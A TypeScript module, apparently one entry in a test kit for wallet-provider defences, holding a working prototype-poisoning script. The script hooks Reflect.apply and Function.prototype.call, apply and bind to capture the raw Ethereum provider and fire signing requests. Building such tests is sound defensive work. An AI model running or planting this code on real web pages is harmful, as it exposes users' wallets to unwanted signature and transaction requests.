import type { Attack } from './kit/attack.ts'

export default {
  family: 'poisoning',
  how: "Replaces Reflect.apply and Function's call, apply and bind, to take the raw provider from any call that is made on it.",
  script: `
    const seen = new WeakSet([ethereum])
    const take = (self) => {
      if (typeof self !== 'object' || self === null || seen.has(self)) return
      seen.add(self)
      if (typeof self.request === 'function') try { self.request(attack.sign) } catch {}
    }
    const apply = Reflect.apply
    Reflect.apply = (f, self, args) => { take(self); return apply(f, self, args) }
    for (const name of ['call', 'apply', 'bind']) {
      const original = Function.prototype[name]
      Function.prototype[name] = function (self, ...rest) {
        take(self)
        return apply(original, this, [self, ...rest])
      }
    }
    ethereum.on('accountsChanged', () => {})
    ethereum.request({ method: 'eth_chainId' })
    ethereum.request({ method: 'eth_accounts' })
    window.dispatchEvent(new Event('eip6963:requestProvider'))
    ethereum.request(attack.sign)
    await attack.sleep(400)
  `,
} satisfies Attack
